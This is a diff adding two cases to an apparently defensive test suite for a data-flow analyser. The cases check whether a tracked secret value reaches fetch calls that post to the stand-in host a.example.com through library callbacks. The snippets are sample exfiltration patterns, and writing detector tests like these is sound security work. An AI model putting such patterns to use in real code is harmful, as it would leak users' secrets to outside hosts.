@@ -14,6 +14,8 @@ const CASES: [string, string, boolean][] = [
   ['arguments flow into parameters of the called function', `function post(b) { return fetch("https://a.example.com", { body: b }); } post(${TZ});`, true],
   ['a memoized getter passes its value on', `let c; function get() { if (!c) c = ${TZ}; return c; } fetch("https://a.example.com", { body: JSON.stringify({ t: get() }) });`, true],
   ['a callback element flows from the array', `[${TZ}].forEach((t) => fetch("https://a.example.com", { body: t }));`, true],
+  ['a callback handed to a function not of the file is given its arguments', `lib.convert(${TZ}, (out) => fetch("https://a.example.com", { body: out }));`, true],
+  ['a callback handed to a function not of the file is given nothing else', `const z = ${TZ}; lib.convert("fixed", (out) => fetch("https://a.example.com", { body: out }));`, false],
 ];
 
 for (const [name, code, flows] of CASES) {
